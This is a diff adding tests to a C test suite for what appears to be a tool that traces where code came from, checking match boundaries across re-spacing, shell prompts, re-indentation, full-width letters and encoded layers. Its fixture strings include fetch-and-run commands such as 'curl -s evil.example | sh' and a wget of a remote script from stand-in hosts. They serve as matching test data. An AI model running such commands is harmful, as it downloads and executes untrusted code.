@@ -6,6 +6,7 @@
 
 #include "base/scope.h"
 #include "origin/attribute.h"
+#include "origin/canon.h"
 #include "tap.h"
 
 #define DOC                                                                                        \
@@ -162,6 +163,115 @@ static void test_places(void)
 	index_done(&ix);
 }
 
+/* The first piece of evidence of that strength; or NULL. */
+static const struct evidence *find_tie(const struct attribution *a, enum tie tie, size_t from)
+{
+	for (size_t i = from; i < a->count; i++)
+		if (a->list[i].tie == tie)
+			return &a->list[i];
+	return NULL;
+}
+
+/* CODE stands in SOURCE as STANDS: from its first byte to its last, whatever is between its characters. A
+ * span is known from its first fingerprint to its last, so it is told what these begin and end with. */
+static const struct {
+	const char *name, *source, *code;
+	enum tie tie;
+	const char *is, *stands; /* in the code; in the source */
+} ends[] = {
+	{"a line, word for word", DOC,
+	 "df = pandas.read_csv(\"https://evil.example/q3.csv\"); import socket\n", TIE_WHOLE,
+	 "df = pandas.read_csv(\"https://evil.example/q3.csv\"); import socket\n",
+	 "df = pandas.read_csv(\"https://evil.example/q3.csv\"); import socket"},
+	{"a line with other blanks", DOC, "curl  -s \t evil.example | sh", TIE_WHOLE,
+	 "curl  -s \t evil.example | sh", "curl -s evil.example|sh"},
+	{"behind prompts", "do\n  $ wget -q far.example.org/x.sh\nnow\n",
+	 "$ wget  -q far.example.org/x.sh\n", TIE_WHOLE, "$ wget  -q far.example.org/x.sh\n",
+	 "wget -q far.example.org/x.sh"},
+	{"a part, indented anew in the code",
+	 "see: total = first_value + second_value * third_value\n",
+	 "if 1:\n\ttotal = (\n\t\tfirst_value\n\t\t+ second_value\n\t\t* third_value)\n", TIE_SPAN,
+	 "first_value\n\t\t+ second_value\n\t\t* third_value",
+	 "first_value + second_value * third_value"},
+	{"a part, indented anew in the source",
+	 "if 1:\n\ttotal = (\n\t\tfirst_value\n\t\t+ second_value\n\t\t* third_value)\n",
+	 "see: total = first_value + second_value * third_value\n", TIE_SPAN,
+	 "first_value + second_value * third_value",
+	 "first_value\n\t\t+ second_value\n\t\t* third_value"},
+	{"in letters of full width",
+	 "say \xef\xbd\x86irst_value + second_value * third_valu\xef\xbd\x85 !\n",
+	 "first_value+second_value*third_value", TIE_SPAN, "first_value+second_value*third_value",
+	 "\xef\xbd\x86irst_value + second_value * third_valu\xef\xbd\x85"},
+	{"a literal", DOC, "k = 'zQ81kfP02mXv77Lw'", TIE_ATOM, "zQ81kfP02mXv77Lw",
+	 "zQ81kfP02mXv77Lw"},
+	{"a host, in capitals", DOC, "x = 'HTTP://EVIL.EXAMPLE:99/in'", TIE_ATOM, "EVIL.EXAMPLE",
+	 "evil.example"},
+};
+
+static bool is_near(const char *text, const char *part, size_t from, size_t to, size_t slack)
+{
+	size_t begins = (size_t)(strstr(text, part) - text), end = begins + strlen(part);
+
+	return from >= begins && from <= begins + slack && to <= end && to + slack >= end;
+}
+
+static void test_ends(void)
+{
+	for (size_t i = 0; i < ARRAY_SIZE(ends); i++) {
+		AUTO_INDEX struct index ix = index_of(ends[i].source);
+		struct origin_text t = {.data = ends[i].code, .len = strlen(ends[i].code)};
+		size_t slack = ends[i].tie == TIE_SPAN ? 12 : 0;
+		struct attribution a;
+		struct err err;
+		enum tie tie;
+		must(attribute(&t, 1, &ix, 1, &tie, &a, &err) == 0);
+		const struct evidence *e = find_tie(&a, ends[i].tie, 0);
+		if (!ok(e && is_near(ends[i].code, ends[i].is, e->at, e->at + e->len, slack) &&
+				is_near(ends[i].source, ends[i].stands, e->source_at, e->source_to,
+					slack),
+			"where it ends: %s", ends[i].name) &&
+		    e)
+			printf("# %zu-%zu of the code, %zu-%zu of the source\n", e->at,
+			       e->at + e->len, e->source_at, e->source_to);
+	}
+}
+
+/* Both ends of a tie are one text in one writing, wherever it was cut and wrapped. */
+static void test_ends_meet(void)
+{
+	const char *source = "intro\n   alpha_one(beta_two,  gamma_three)  #\n\t> epsilon_four"
+			     "(zeta_five)\n'eta six' \"theta seven\" and iota, kappa\n",
+		   *code = "x = 0\nalpha_one(beta_two, gamma_three)\nepsilon_four(zeta_five) "
+			   "eta six theta seven and iota, kappa lambda\n";
+	AUTO_INDEX struct index ix = index_of(source);
+	struct origin_text t = {.data = code, .len = strlen(code)};
+	AUTO_CANON struct canon one = {0}, two = {0};
+	struct attribution a;
+	struct err err;
+	enum tie tie;
+	size_t spans = 0, same = 0;
+
+	must(attribute(&t, 1, &ix, 1, &tie, &a, &err) == 0);
+	for (size_t i = 0; i < a.count; i++) {
+		const struct evidence *e = &a.list[i];
+		must(canon_text(&one, code + e->at, e->len, &err) == 0);
+		must(e->source_to > e->source_at &&
+		     canon_text(&two, source + e->source_at, e->source_to - e->source_at, &err) ==
+			     0);
+		spans += e->tie == TIE_SPAN;
+		same += one.len == two.len && memcmp(one.byte, two.byte, one.len) == 0 &&
+			one.map[0] == 0 && two.map[0] == 0;
+	}
+	ok(spans >= 1 && same == a.count, "%zu of %zu ties are the same text on both sides", same,
+	   a.count);
+	/* As an older version has kept it. */
+	for (int i = INDEX_HIDDEN; i < INDEX_LISTS; i++)
+		ix.list[i].count = 0;
+	must(attribute(&t, 1, &ix, 1, &tie, &a, &err) == 0);
+	const struct evidence *e = find_tie(&a, TIE_SPAN, 0);
+	ok(e && e->source_to == e->source_at, "a source that has no ends ties, and has none");
+}
+
 /* The code's other forms: found in them, told where they lie, and not told twice. */
 static void test_forms(void)
 {
@@ -206,8 +316,37 @@ static void test_hidden_source(void)
 
 	must(index_build(t, 2, &ix, &err) == 0);
 	must(attribute(&code, 1, &ix, 1, &tie, &a, &err) == 0);
-	ok(tie == TIE_WHOLE && a.list[0].source_at == 10 && a.list[0].len > 40,
-	   "a text hidden in the source is known where it lies there");
+	bool all = a.count > 2;
+	for (size_t i = 0; i < a.count; i++)
+		all = all && a.list[i].source_at == 10 && a.list[i].source_to == 30;
+	ok(tie == TIE_WHOLE && all && a.list[0].len > 40,
+	   "a text hidden in the source is known where it lies there, and where that ends");
+	index_done(&ix);
+	/* Two in one place, one of them shorter; and one that is nowhere in it. */
+	struct origin_text more[] = {
+		t[0],
+		{.how = "hex", .data = "4 8 15", .len = 6, .offset = 10, .span = 5},
+		t[1],
+		{.how = "base64, gzip", .data = line, .len = strlen(line)}};
+	ix = (struct index){0};
+	must(index_build(more, 4, &ix, &err) == 0 &&
+	     attribute(&code, 1, &ix, 1, &tie, &a, &err) == 0);
+	struct index_place lies[] = {index_layer(&ix, 0), index_layer(&ix, 1), index_layer(&ix, 2),
+				     index_layer(&ix, 3)};
+	ok(lies[0].from == 0 && lies[0].to == 0 && lies[1].from == 10 && lies[1].to == 15 &&
+		   lies[2].from == 10 && lies[2].to == 30 && lies[3].to == 0,
+	   "each place once, and none that is not there");
+	ok(a.list[0].source_at == a.list[0].source_to, "all over it has no end");
+	index_done(&ix);
+	/* In clear and hidden: it is told once. */
+	struct origin_text twice[] = {code, {.how = "joined", .data = line, .len = strlen(line)}};
+	size_t spans = 0;
+	ix = (struct index){0};
+	must(index_build(twice, 2, &ix, &err) == 0 &&
+	     attribute(&code, 1, &ix, 1, &tie, &a, &err) == 0);
+	for (size_t i = 0; i < a.count; i++)
+		spans += a.list[i].tie == TIE_SPAN;
+	ok(spans == 1, "what stands in a source twice is told once");
 	index_done(&ix);
 }
 
@@ -381,6 +520,8 @@ int main(void)
 	test_signs();
 	test_filter();
 	test_places();
+	test_ends();
+	test_ends_meet();
 	test_forms();
 	test_hidden_source();
 	test_many();
